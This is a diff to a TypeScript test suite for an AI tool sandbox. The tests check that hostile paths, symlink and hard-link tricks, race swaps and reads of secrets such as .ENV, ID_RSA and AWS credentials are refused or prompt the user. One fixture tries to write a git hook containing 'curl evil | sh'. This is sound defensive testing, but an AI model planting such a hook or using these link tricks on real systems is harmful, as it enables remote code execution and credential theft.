@@ -3,12 +3,14 @@ import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { linkSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync, renameSync, rmSync } from 'node:fs';
 import * as nodePath from 'node:path';
-import { TOOLS } from '../../src/core/tools/index.ts';
+import { TOOLS, type ToolResult } from '../../src/core/tools/index.ts';
+import type { SearchOutput } from '../../src/core/search/results.ts';
+import { invoke } from '../../src/core/registry.ts';
 import type { ToolName } from '../../src/core/tools/names.ts';
 import { SandboxError } from '../../src/core/errors.ts';
 import { createRipgrepSearch } from '../../src/core/search/ripgrep.ts';
 import { locateRipgrep } from '../../src/core/search/ripgrep-binary.ts';
-import { hostileLinks, tempDir, testSession, type TestSession } from './harness.ts';
+import { hostileLinks, session, tempDir, type TestSession, testSession, wholeResult } from './harness.ts';
 import type { Gate } from '../../src/core/ports.ts';
 import type { GateCall } from '../../src/core/gate.ts';
 
@@ -97,7 +99,7 @@ function casesFor(path: string, mediaId: string): [ToolName, object][] {
 test('hostile paths: every call on every path-taking tool ends in a narrated E_SANDBOX_* and nothing outside changes', async () => {
   const paths = hostilePaths(t.root, outside.path);
   const staged = await t.session.invoke(TOOLS.stage_file, { path: 'a.txt', content: 'pwned' });
-  const mediaId = (staged.result as { media_id: string }).media_id;
+  const mediaId = staged.result.media_id;
   const before = snapshot(outside.path);
   let count = 0;
   const codes = new Map<string, number>();
@@ -106,7 +108,7 @@ test('hostile paths: every call on every path-taking tool ends in a narrated E_S
     for (const [tool, input] of casesFor(path, mediaId)) {
       count++;
       try {
-        const outcome = await t.session.invoke(TOOLS[tool], input);
+        const outcome = await t.invoke(tool, input);
         assert.fail(`${tool} ${shown} succeeded: ${outcome.text.slice(0, 200)}`);
       } catch (e) {
         assert.ok(e instanceof SandboxError, `${tool} ${shown} threw ${String(e).slice(0, 300)}`);
@@ -145,7 +147,7 @@ test('race: a component swapped for a symlink while saves run never lets a write
   for (let i = 0; i < 300; i++) {
     try {
       const staged = await t.session.invoke(TOOLS.stage_file, { path: `race/f${i}.txt`, content: `write ${i}` });
-      await t.session.invoke(TOOLS.save_media, { media_id: (staged.result as { media_id: string }).media_id });
+      await t.session.invoke(TOOLS.save_media, { media_id: staged.result.media_id });
       saved++;
     } catch (e) {
       assert.ok(e instanceof SandboxError, String(e));
@@ -161,9 +163,9 @@ test('race: a component swapped for a symlink while saves run never lets a write
 const rg = (): ReturnType<typeof createRipgrepSearch> => createRipgrepSearch({ rgPath: locateRipgrep()!.path });
 
 /** Calls a tool, returning its result or the code it failed with. */
-async function outcome(session: TestSession['session'], tool: ToolName, input: object): Promise<{ ok: true; result: unknown; text: string } | { ok: false; code: string; message: string }> {
+async function outcome<N extends ToolName>(session: TestSession['session'], tool: N, input: object): Promise<{ ok: true; result: ToolResult<N>; text: string } | { ok: false; code: string; message: string }> {
   try {
-    const out = await session.invoke(TOOLS[tool], input);
+    const out = await invoke(session, tool, input);
     return { ok: true, result: out.result, text: out.text };
   } catch (e) {
     assert.ok(e instanceof SandboxError, String(e));
@@ -172,34 +174,32 @@ async function outcome(session: TestSession['session'], tool: ToolName, input: o
 }
 
 /** The paths a search or find result names. */
-const pathsOf = (result: unknown): string[] => (result as { kind: string; path?: string }[]).flatMap((f) => (f.kind === 'match' || f.kind === 'path' ? [f.path!] : []));
+const pathsOf = (result: SearchOutput): string[] => wholeResult(result).flatMap((f) => (f.kind === 'match' || f.kind === 'path' ? [f.path] : []));
 
-test('attack: case variants of secrets (.ENV, ID_RSA, Server.PEM, .GIT/hooks) are asked, never searched or found, and .GIT writes are denied', async () => {
-  const s = testSession({ rules: [{ glob: '.env.example', read: 'allow' }], overrides: { search: rg() } });
-  try {
-    const files: Record<string, string> = { '.ENV': 'KEY=case-env', 'ID_RSA': 'KEY=case-rsa', 'certs/Server.PEM': 'KEY=case-pem', '.AWS/credentials': 'KEY=case-aws', '.ENV.EXAMPLE': 'KEY=case-example', '.env.example': 'KEY=fine', 'notes.txt': 'KEY=fine', '.GIT/hooks/pre-commit': '#!/bin/sh\n' };
-    for (const [rel, text] of Object.entries(files)) { mkdirSync(nodePath.dirname(nodePath.join(s.root, rel)), { recursive: true }); writeFileSync(nodePath.join(s.root, rel), text); }
-    for (const rel of ['.ENV', 'ID_RSA', 'certs/Server.PEM', '.AWS/credentials', '.ENV.EXAMPLE']) {
-      s.gate.calls.length = 0;
-      await s.session.invoke(TOOLS.open_file, { path: rel });
-      assert.equal(s.gate.calls[0]?.secret, true, `${rel} was read without the modal ask`);
-    }
+test('attack: case variants of secrets (.ENV, ID_RSA, Server.PEM, .GIT/hooks) are asked, never searched or found, and .GIT writes are denied', async (tc) => {
+  const s = session(tc, { rules: [{ glob: '.env.example', read: 'allow' }], overrides: { search: rg() } });
+  const files: Record<string, string> = { '.ENV': 'KEY=case-env', 'ID_RSA': 'KEY=case-rsa', 'certs/Server.PEM': 'KEY=case-pem', '.AWS/credentials': 'KEY=case-aws', '.ENV.EXAMPLE': 'KEY=case-example', '.env.example': 'KEY=fine', 'notes.txt': 'KEY=fine', '.GIT/hooks/pre-commit': '#!/bin/sh\n' };
+  for (const [rel, text] of Object.entries(files)) { mkdirSync(nodePath.dirname(nodePath.join(s.root, rel)), { recursive: true }); writeFileSync(nodePath.join(s.root, rel), text); }
+  for (const rel of ['.ENV', 'ID_RSA', 'certs/Server.PEM', '.AWS/credentials', '.ENV.EXAMPLE']) {
     s.gate.calls.length = 0;
-    await s.session.invoke(TOOLS.open_file, { path: '.env.example' });
-    assert.equal(s.gate.calls[0]?.secret, false, 'the person\'s exact allow rule still relaxes .env.example');
-    const searched = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true });
-    assert.ok(searched.ok);
-    assert.deepEqual([...new Set(pathsOf(searched.result))].sort(), ['.env.example', 'notes.txt']);
-    const iglobbed = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true, glob: '.ENV', iglob: '*.pem' });
-    assert.ok(iglobbed.ok);
-    assert.deepEqual(pathsOf(iglobbed.result), []);
-    const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
-    assert.ok(found.ok);
-    // .git is protected against writes only (a hook there runs code); reading it is not secret.
-    assert.deepEqual(pathsOf(found.result).sort(), ['.GIT/hooks/pre-commit', '.env.example', 'notes.txt']);
-    const hook = await outcome(s.session, 'stage_file', { path: '.GIT/hooks/pre-commit', content: 'curl evil | sh\n' });
-    assert.equal(hook.ok ? 'ok' : hook.code, 'E_SANDBOX_REFUSED');
-  } finally { await s.dispose(); }
+    await s.session.invoke(TOOLS.open_file, { path: rel });
+    assert.equal(s.gate.calls[0]?.secret, true, `${rel} was read without the modal ask`);
+  }
+  s.gate.calls.length = 0;
+  await s.session.invoke(TOOLS.open_file, { path: '.env.example' });
+  assert.equal(s.gate.calls[0]?.secret, false, 'the person\'s exact allow rule still relaxes .env.example');
+  const searched = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true });
+  assert.ok(searched.ok);
+  assert.deepEqual([...new Set(pathsOf(searched.result))].sort(), ['.env.example', 'notes.txt']);
+  const iglobbed = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true, glob: '.ENV', iglob: '*.pem' });
+  assert.ok(iglobbed.ok);
+  assert.deepEqual(pathsOf(iglobbed.result), []);
+  const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
+  assert.ok(found.ok);
+  // .git is protected against writes only (a hook there runs code); reading it is not secret.
+  assert.deepEqual(pathsOf(found.result).sort(), ['.GIT/hooks/pre-commit', '.env.example', 'notes.txt']);
+  const hook = await outcome(s.session, 'stage_file', { path: '.GIT/hooks/pre-commit', content: 'curl evil | sh\n' });
+  assert.equal(hook.ok ? 'ok' : hook.code, 'E_SANDBOX_REFUSED');
 });
 
 test('attack: a workspace folder opened inside ~/.aws, ~/.ssh, ~/.gnupg, ~/.kube or ~/.docker is protected as a whole', async () => {
@@ -256,21 +256,19 @@ test('attack: a workspace folder nested inside another escapes none of the outer
   } finally { ws.dispose(); }
 });
 
-test('attack: listing through a link to an ancestor (ln -s . rootlink), or a link to a denied file, shows no denied entry and no size', async () => {
-  const s = testSession({ rules: [{ glob: 'private/**', read: 'deny' }] });
-  try {
-    mkdirSync(nodePath.join(s.root, 'private'));
-    writeFileSync(nodePath.join(s.root, 'private', 'payroll.csv'), 'x'.repeat(4321));
-    writeFileSync(nodePath.join(s.root, 'readme.txt'), 'hi\n');
-    symlinkSync('.', nodePath.join(s.root, 'rootlink'));
-    symlinkSync('private/payroll.csv', nodePath.join(s.root, 'innocent'));
-    for (const input of [{ path: 'rootlink', max_depth: 2 }, { max_depth: 2 }]) {
-      const listed = await outcome(s.session, 'list_directory', input);
-      assert.ok(listed.ok, JSON.stringify(listed));
-      assert.doesNotMatch(listed.text, /private|payroll|4321|innocent/, JSON.stringify(input));
-      assert.match(listed.text, /readme\.txt/);
-    }
-  } finally { await s.dispose(); }
+test('attack: listing through a link to an ancestor (ln -s . rootlink), or a link to a denied file, shows no denied entry and no size', async (tc) => {
+  const s = session(tc, { rules: [{ glob: 'private/**', read: 'deny' }] });
+  mkdirSync(nodePath.join(s.root, 'private'));
+  writeFileSync(nodePath.join(s.root, 'private', 'payroll.csv'), 'x'.repeat(4321));
+  writeFileSync(nodePath.join(s.root, 'readme.txt'), 'hi\n');
+  symlinkSync('.', nodePath.join(s.root, 'rootlink'));
+  symlinkSync('private/payroll.csv', nodePath.join(s.root, 'innocent'));
+  for (const input of [{ path: 'rootlink', max_depth: 2 }, { max_depth: 2 }]) {
+    const listed = await outcome(s.session, 'list_directory', input);
+    assert.ok(listed.ok, JSON.stringify(listed));
+    assert.doesNotMatch(listed.text, /private|payroll|4321|innocent/, JSON.stringify(input));
+    assert.match(listed.text, /readme\.txt/);
+  }
 });
 
 /** A separate process that swaps `file` between a regular file and a link to `target`, as fast as it can, until killed. */
@@ -305,11 +303,11 @@ test('race: a checked file swapped for a link to an outside file while open_file
       try {
         let text: string;
         if (i % 2 === 0) {
-          const handle = (await t.session.invoke(TOOLS.open_file, { path: 'read-race/f.txt' })).result as { callId: string; lines: number };
+          const handle = (await t.session.invoke(TOOLS.open_file, { path: 'read-race/f.txt' })).result;
           text = handle.lines === 0 ? '' : (await t.session.invoke(TOOLS.artifact_read, { callId: handle.callId })).text;
           tally.read++;
         } else {
-          const staged = (await t.session.invoke(TOOLS.stage_file, { path: 'read-race/f.txt' })).result as { media_id: string };
+          const staged = (await t.session.invoke(TOOLS.stage_file, { path: 'read-race/f.txt' })).result;
           text = t.session.media.reader(staged.media_id).text();
           tally.staged++;
         }
@@ -326,28 +324,26 @@ test('race: a checked file swapped for a link to an outside file while open_file
   assert.ok(tally.read > 0 && tally.staged > 0, 'no call succeeded, so the race proved nothing');
 });
 
-test('attack: a hard link to .env under an innocent name is read with no ask', async () => {
+test('attack: a hard link to .env under an innocent name is read with no ask', async (tc) => {
   const calls: GateCall[] = [];
   // The person approves the plain read, and declines once told the file has other names.
   const gate: Gate = async (call) => { calls.push(call); return { allow: !call.targets.some((t) => (t.links ?? 1) > 1), decidedBy: 'test' }; };
-  const s = testSession({ overrides: { gate } });
+  const s = session(tc, { overrides: { gate } });
+  writeFileSync(nodePath.join(s.root, '.env'), `TOKEN=${SENTINEL}\n`);
+  linkSync(nodePath.join(s.root, '.env'), nodePath.join(s.root, 'notes.txt'));
+  for (const [tool, input] of [['open_file', { path: 'notes.txt' }], ['stage_file', { path: 'notes.txt' }]] as const) {
+    calls.length = 0;
+    const refused = await outcome(s.session, tool, input);
+    assert.equal(refused.ok ? 'ok' : refused.code, 'E_SANDBOX_REFUSED', tool);
+    assert.ok(!refused.ok && /2 names \(hard links\)/.test(refused.message), tool);
+    assert.deepEqual(calls.map((c) => c.targets.map((t) => t.links)), [[undefined], [2]], `${tool}: the person was not told about the other names`);
+  }
+  assert.deepEqual(s.session.media.all(), []);
+  // Approved knowing it, the result says so too.
+  const approved = testSession({ overrides: { roots: () => [{ name: 'ws', address: s.root, localPath: s.root }] } });
   try {
-    writeFileSync(nodePath.join(s.root, '.env'), `TOKEN=${SENTINEL}\n`);
-    linkSync(nodePath.join(s.root, '.env'), nodePath.join(s.root, 'notes.txt'));
-    for (const [tool, input] of [['open_file', { path: 'notes.txt' }], ['stage_file', { path: 'notes.txt' }]] as const) {
-      calls.length = 0;
-      const refused = await outcome(s.session, tool, input);
-      assert.equal(refused.ok ? 'ok' : refused.code, 'E_SANDBOX_REFUSED', tool);
-      assert.ok(!refused.ok && /2 names \(hard links\)/.test(refused.message), tool);
-      assert.deepEqual(calls.map((c) => c.targets.map((t) => t.links)), [[undefined], [2]], `${tool}: the person was not told about the other names`);
-    }
-    assert.deepEqual(s.session.media.all(), []);
-    // Approved knowing it, the result says so too.
-    const approved = testSession({ overrides: { roots: () => [{ name: 'ws', address: s.root, localPath: s.root }] } });
-    try {
-      const opened = await approved.session.invoke(TOOLS.open_file, { path: 'notes.txt' });
-      assert.equal((opened.result as { links?: number }).links, 2);
-      assert.match(opened.text, /2 names \(hard links\)/);
-    } finally { await approved.dispose(); }
-  } finally { await s.dispose(); }
+    const opened = await approved.session.invoke(TOOLS.open_file, { path: 'notes.txt' });
+    assert.equal(opened.result.links, 2);
+    assert.match(opened.text, /2 names \(hard links\)/);
+  } finally { await approved.dispose(); }
 });
